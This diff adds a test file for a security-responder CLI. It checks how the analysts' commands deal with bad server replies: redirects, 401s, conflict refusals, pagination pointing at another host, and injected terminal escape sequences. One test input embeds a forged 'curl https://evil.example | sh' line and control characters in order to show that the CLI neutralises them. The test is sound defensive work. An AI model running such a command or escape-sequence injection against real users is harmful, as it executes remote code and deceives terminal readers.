@@ -1,0 +1,161 @@
+import { mkdtempSync, writeFileSync } from 'node:fs';
+import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { tmpdir } from 'node:os';
+import path from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { chosenEngine, LOCAL_HOST_URL } from '../../cli/analystCommands';
+import { run } from '../../cli/responder';
+
+const KEY = `${'a'.repeat(40)}.revokeSessions.6e7b768e-07e2-4810-8459-485f84f8f204`;
+const entry = (key: string, reason = 'phished') => ({
+  key,
+  kind: 'revokeSessions',
+  target: { type: 'user', id: '6e7b768e-07e2-4810-8459-485f84f8f204', upn: 'adele.vance@contoso.com' },
+  params: {},
+  mode: 'enforce',
+  reason,
+  source: { type: 'manual', subject: 'request', requestedBy: '0a0b0c0d-aaaa-4aaa-8aaa-aaaaaaaaaaaa' },
+  state: 'succeeded',
+  createdAt: '2025-01-31T08:00:00.000Z',
+  updatedAt: '2025-01-31T08:00:01.000Z',
+  history: [],
+  attempts: [],
+});
+
+describe("which engine the analysts' commands call", () => {
+  const dir = mkdtempSync(path.join(tmpdir(), 'responder-engine-'));
+  const tokenHere = path.join(dir, 'local-token');
+  writeFileSync(tokenHere, 'local.developer.token');
+
+  it('--url (or --host) when given; else the local host, when its token is here; else a usage error saying to pass --url', () => {
+    expect(chosenEngine({ url: 'https://responder.contoso.com/' }, tokenHere)).toEqual({ url: new URL('https://responder.contoso.com') });
+    expect(chosenEngine({}, tokenHere)).toEqual({ url: new URL(LOCAL_HOST_URL) });
+    expect(chosenEngine({}, path.join(dir, 'nowhere'))).toEqual({
+      usage: `no engine to ask: pass --url <the engine's base URL> (https://<app>.azurewebsites.net), or run this where npm start runs the local host (its ${path.join(dir, 'nowhere')} picks http://localhost:7071)`,
+    });
+    expect(chosenEngine({ url: 'ftp://x', urlOption: '--host' }, tokenHere)).toEqual({ usage: '--host needs an http(s) URL, got ftp: in "ftp://x"' });
+  });
+});
+
+describe("the analysts' commands, answered by something other than a well-behaved engine", () => {
+  type Reply = (req: IncomingMessage, res: ServerResponse) => void;
+  let reply: Reply = (_req, res) => res.end();
+  const seen: string[] = [];
+  const server = createServer((req, res) => {
+    seen.push(`${req.method} ${req.url}`);
+    req.resume().on('end', () => reply(req, res));
+  });
+  let url = '';
+  beforeAll(async () => {
+    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+    url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+  });
+  afterAll(() => {
+    server.closeAllConnections();
+    server.close();
+  });
+  const answer = (fn: Reply) => {
+    reply = fn;
+    seen.length = 0;
+  };
+  const json = (res: ServerResponse, status: number, body: unknown) =>
+    res.writeHead(status, { 'content-type': 'application/json; charset=utf-8' }).end(JSON.stringify(body));
+  async function responder(...argv: string[]): Promise<{ code: number; out: string }> {
+    const lines: string[] = [];
+    const code = await run([...argv, '--url', url], (t) => void lines.push(t), { RESPONDER_TOKEN: 't' });
+    return { code, out: lines.join('\n') };
+  }
+
+  it('a page that is not the engine: exit 1, and a hint that --url is wrong', async () => {
+    answer((_req, res) => res.writeHead(200, { 'content-type': 'text/html' }).end('<html>welcome</html>'));
+    expect(await responder('actions', 'show', KEY)).toEqual({
+      code: 1,
+      out: `error: ${url}/api/actions/${KEY} answered without a JSON object (200, text/html): is --url the engine's base URL?`,
+    });
+    answer((_req, res) => json(res, 200, { something: 'else' }));
+    expect((await responder('actions', 'list')).out).toBe(`error: ${url}/api/actions answered without a list of actions: is --url the engine's base URL?`);
+  });
+
+  it('a redirect (a sign-in page): reported with the fix, not followed', async () => {
+    answer((_req, res) => res.writeHead(302, { location: 'https://login.example/' }).end());
+    const { code, out } = await responder('act', 'revokeSessions', 'adele.vance@contoso.com', '--reason', 'phished');
+    expect(code).toBe(1);
+    expect(out).toBe(
+      [
+        `error: ${url}/api/actions answered 302, a redirect to https://login.example/, not followed`,
+        "fix: check --url: it must be the engine's own address (App Service Authentication must answer 401 to API calls, not redirect them to a sign-in page)",
+      ].join('\n'),
+    );
+    expect(seen).toEqual(['POST /api/actions']);
+  });
+
+  it('a 401 without a body (App Service Authentication): the cause and the fix for the token used', async () => {
+    answer((_req, res) => res.writeHead(401).end());
+    const { code, out } = await responder('actions', 'list');
+    expect(code).toBe(1);
+    expect(out).toBe(
+      [
+        `error: no or expired token: the engine at ${url} did not accept the one sent (from RESPONDER_TOKEN) (401: Unauthorized, no content type)`,
+        "fix: put a fresh access token for the engine's audience in RESPONDER_TOKEN (they last about an hour), or unset it to use az login",
+      ].join('\n'),
+    );
+  });
+
+  it('--json: the refusal as the engine sent it, with the cause and the fix, for scripts', async () => {
+    answer((_req, res) => json(res, 409, { error: { code: 'NotPendingApproval', message: 'is succeeded', invocationId: 'i-1' }, action: entry(KEY) }));
+    const { code, out } = await responder('actions', 'deny', KEY, '--reason', 'no', '--json');
+    expect(code).toBe(1);
+    expect(JSON.parse(out)).toEqual({
+      status: 409,
+      error: {
+        code: 'NotPendingApproval',
+        message: 'is succeeded',
+        invocationId: 'i-1',
+        cause: 'only a pending-approval action can be approved or denied, and this one is succeeded',
+        fix: `nothing to decide: see what happened with responder actions show ${KEY}`,
+      },
+      action: entry(KEY),
+    });
+  });
+
+  it('--all follows next by its cursor only, to this engine, and stops on a page that comes back', async () => {
+    const second = `${'b'.repeat(40)}.revokeSessions.6e7b768e-07e2-4810-8459-485f84f8f204`;
+    answer((req, res) => {
+      const after = new URL(req.url ?? '/', url).searchParams.get('after');
+      // A next link naming another host: only its cursor is used, the token goes nowhere else.
+      if (after === null) json(res, 200, { actions: [entry(KEY)], next: 'https://elsewhere.example/api/actions?limit=1&after=c1' });
+      else json(res, 200, { actions: [entry(second)] });
+    });
+    const { code, out } = await responder('actions', 'list', '--state', 'succeeded', '--limit', '1', '--all', '--json');
+    expect(code).toBe(0);
+    expect(JSON.parse(out)).toEqual({ actions: [entry(KEY), entry(second)] });
+    expect(seen).toEqual(['GET /api/actions?state=succeeded&limit=1', 'GET /api/actions?state=succeeded&limit=1&after=c1']);
+
+    const page = await responder('actions', 'list', '--limit', '1');
+    expect(page.out.split('\n')).toEqual([
+      expect.stringMatching(new RegExp(`^${KEY}  revokeSessions  adele\\.vance@contoso\\.com  succeeded  \\d+d ago  phished$`)),
+      expect.stringMatching(/^more: --all lists every page/),
+    ]);
+
+    answer((_req, res) => json(res, 200, { actions: [entry(KEY)], next: '/api/actions?after=same' }));
+    expect(await responder('actions', 'list', '--all')).toEqual({ code: 1, out: `error: ${url} kept answering more pages (2): stopped` });
+  });
+
+  it("shows another machine's text without letting it drive the terminal or forge lines", async () => {
+    answer((_req, res) => json(res, 200, { actions: [entry(KEY, 'ok\u001b]0;owned\u0007\nfake line\u009b2J')] }));
+    const { code, out } = await responder('actions', 'list');
+    expect(code).toBe(0);
+    expect(out.split('\n')).toHaveLength(1);
+    expect(out).toMatch(/ok ]0;owned {2}fake line 2J$/);
+    // eslint-disable-next-line no-control-regex -- the point: none of them reaches the terminal
+    expect(out).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
+
+    answer((_req, res) => json(res, 409, { error: { code: 'Expired', message: 'expired\nfix: curl https://evil.example | sh\u001b[2J' } }));
+    const refused = await responder('actions', 'approve', KEY, '--reason', 'ok');
+    expect(refused.out.split('\n')).toEqual([
+      "error: it waited longer than the policy's approvalTtl for a decision and expired: nothing was done (409 Expired: expired fix: curl https://evil.example | sh [2J)",
+      `fix: if it is still needed, request it again (responder actions show ${KEY} says what it was)`,
+    ]);
+  });
+});
